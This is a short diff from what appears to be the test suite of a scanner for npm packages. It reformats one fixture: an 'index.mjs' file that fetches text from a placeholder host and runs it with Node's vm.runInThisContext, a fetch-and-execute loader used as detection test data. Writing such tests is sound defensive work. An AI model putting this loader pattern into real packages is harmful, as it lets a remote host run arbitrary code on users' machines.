@@ -60,8 +60,7 @@ Bundles hold requests and \`Function\` far apart; there both have to be a few hu
       {
         ecosystem: "npm",
         files: {
-          "index.mjs":
-            "import vm from 'node:vm';\nconst t = await fetch(`https://example.invalid/${id}`).then((r) => r.text());\nvm.runInThisContext(t);\n",
+          "index.mjs": `import vm from 'node:vm';\nconst t = await fetch(\`https://example.invalid/\${id}\`).then((r) => r.text());\nvm.runInThisContext(t);\n`,
         },
       },
     ],
